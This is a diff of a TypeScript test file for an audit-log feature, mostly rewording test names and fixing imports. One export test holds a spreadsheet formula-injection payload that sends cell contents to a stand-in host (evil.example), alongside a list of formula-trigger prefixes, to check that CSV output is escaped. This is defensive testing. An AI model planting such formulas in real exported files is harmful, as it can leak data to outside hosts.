@@ -5,10 +5,10 @@ import { call, olderVersion, startTestApp } from "../../test/support/app.ts";
 import { makeRecording, makeTeam, makeUser, makeWorkspace, unknownId } from "../../test/support/factories.ts";
 import { startHookReceiver } from "../../test/support/hook-receiver.ts";
 import { until } from "../../test/support/until.ts";
-import { recordingObjectKey } from "../storage/layout.ts";
+import { recordingObjectKey } from "../platform/storage/layout.ts";
 import { auditActions } from "./actions.ts";
 import { csvCell, csvColumns } from "./present.ts";
-import { writeEntries } from "./testing.ts";
+import { writeEntries } from "./test/audit.ts";
 
 const app = await startTestApp({
   env: { PARLEY_HOOKS_ALLOW_ADDRESSES: "127.0.0.0/8", PARLEY_PAGE_SIZE: "4" },
@@ -53,7 +53,7 @@ async function makeMediaRecording(): Promise<string> {
   return recordingId;
 }
 
-test("views: the first of an hour by each token is an entry, however it is looked at; what nobody saw is none", async () => {
+test("views: each token's first view in an hour is recorded, whatever the endpoint; refused requests are not", async () => {
   const { recordingId } = await makeRecording(app, member.token);
   const get = (token: string, path = "", method = "POST") =>
     call(app, method, `/recordings/${recordingId}${path}`, method === "POST" ? {} : undefined, { token });
@@ -77,7 +77,7 @@ test("views: the first of an hour by each token is an entry, however it is looke
   assert.match(first?.ip ?? "", /127\.0\.0\.1/);
 });
 
-test("views: another process, or one that forgot, finds the entry of this hour in the log", async () => {
+test("views: another process, or one with an evicted cache, finds this hour's entry in the log", async () => {
   const { recordingId } = await makeRecording(app, member.token);
   await call(app, "POST", `/recordings/${recordingId}`, {}, { token: member.token });
   const { createViewLog } = await import("./views.ts");
@@ -91,19 +91,19 @@ test("views: another process, or one that forgot, finds the entry of this hour i
     headers: {},
     principal: {
       tokenId: rows[0].credential_id,
-      tokenType: "personal_access_token",
+      tokenType: "personal_access_token" as const,
       workspaceId: workspace.id,
       userId: member.id,
       emailKey: member.email,
     },
-  } as unknown as Parameters<typeof other.note>[0];
+  };
   await other.note(request, "recording_viewed", recordingId);
   assert.equal((await entriesOf(recordingId)).length, 1);
   await other.note(request, "recording_downloaded", recordingId);
   assert.equal((await entriesOf(recordingId)).length, 2);
 });
 
-test("views: an entry of an earlier hour is none of this one", async () => {
+test("views: an entry of an earlier hour does not count for this one", async () => {
   const { recordingId } = await makeRecording(app, member.token);
   const now = new Date();
   await app.db.pool.query(
@@ -116,7 +116,7 @@ test("views: an entry of an earlier hour is none of this one", async () => {
   assert.equal((await entriesOf(recordingId)).length, 2);
 });
 
-test("downloads: who asked for the link, and that somebody followed it, once for all its ranges", async () => {
+test("downloads: records who requested the link, and once that it was followed, whatever the ranges", async () => {
   const recordingId = await makeMediaRecording();
   const answer = await call(app, "GET", `/recordings/${recordingId}/download`, undefined, {
     token: member.token,
@@ -137,7 +137,7 @@ test("downloads: who asked for the link, and that somebody followed it, once for
   assert.deepEqual(await entriesOf(transcript), []);
 });
 
-test("sharing and deleting: in the log with ids, once, and not when nothing changed or it was refused", async () => {
+test("sharing and deleting: recorded once with ids, and not when nothing changed or it was refused", async () => {
   const { recordingId } = await makeRecording(app, member.token, { title: "Secret plans of Q3" });
   const other = await makeUser(app.db, workspace);
   const team = await makeTeam(app.db, workspace);
@@ -176,7 +176,7 @@ test("sharing and deleting: in the log with ids, once, and not when nothing chan
   assert.ok(!JSON.stringify(rows).includes("Secret plans"));
 });
 
-test("hooks: made, deleted and given another secret, without address or secret", async () => {
+test("hooks: creation, deletion and secret rotation are recorded without URL or secret", async () => {
   const receiver = await startHookReceiver();
   const created = await call(
     app,
@@ -207,7 +207,7 @@ test("hooks: made, deleted and given another secret, without address or secret",
   assert.ok(!JSON.stringify(entries).includes("whsec_"));
 });
 
-test("list: newest first in pages, with every filter, each workspace its own", async () => {
+test("list: pages newest first, with every filter, per workspace", async () => {
   const own = await makeWorkspace(app.db);
   const read = (query: string) => audit(query, own.admin.token);
   await writeEntries(app.db, own.id, 9, { action: "signed_in" }, { userId: own.member.id });
@@ -244,7 +244,7 @@ test("list: newest first in pages, with every filter, each workspace its own", a
   }
 });
 
-test("list: a recording's title as it is now, for an admin who sees it, and for no other", async () => {
+test("list: shows a recording's current title only to an admin who sees it", async () => {
   const { recordingId } = await makeRecording(app, member.token, { title: "Secret plans of Q4" });
   const other = await makeUser(app.db, workspace);
   const own = { token: member.token };
@@ -265,7 +265,7 @@ test("list: a recording's title as it is now, for an admin who sees it, and for 
   assert.equal((await read()).title, null);
 });
 
-test("list and export: for admins, signed in or with a personal token, and for nobody else", async () => {
+test("list and export: only for admins, signed in or with a personal token", async () => {
   for (const path of ["", "/export"]) {
     for (const token of [member.token, workspace.token])
       assert.equal((await audit(path, token)).status, 403, path);
@@ -285,7 +285,7 @@ function readCsv(text: string): string[][] {
   return rows.filter((row) => row.length > 0);
 }
 
-test("export: the whole log in the order of its chain, as CSV no spreadsheet runs and as JSON lines, itself an entry", async () => {
+test("export: the whole log in chain order as safe CSV and as JSON lines, recorded as an entry", async () => {
   const own = await makeWorkspace(app.db);
   const evil = '=HYPERLINK("https://evil.example/?"&A1,"x")';
   await writeEntries(app.db, own.id, 2300, { action: "signed_in" });
@@ -323,18 +323,18 @@ test("export: the whole log in the order of its chain, as CSV no spreadsheet run
   );
 });
 
-test("export: cells that a spreadsheet would run begin with an apostrophe", () => {
+test("export: cells that a spreadsheet would evaluate start with an apostrophe", () => {
   for (const text of ["=1+1", "+1", "-1", "@A1", "\t=1", " =1", "\r=1", "\u0000=1", "＝1", "\n"])
     assert.match(csvCell(text), /^"?'/, JSON.stringify(text));
   for (const text of ["a=1", "x@y.example", "", "12", "{}", "a-b"]) assert.equal(csvCell(text), text);
   assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
 });
 
-test("guide: says of every action when it is written", () => {
+test("guide: describes when every action is recorded", () => {
   const guide = readFileSync(new URL("../../docs/guide/audit.md", import.meta.url), "utf8");
   for (const action of auditActions) assert.ok(guide.includes(`\`${action}\``), action);
 });
 
-test("list: nothing of an unknown subject", async () => {
+test("list: an unknown subject returns no entries", async () => {
   assert.deepEqual(await entriesOf(unknownId()), []);
 });
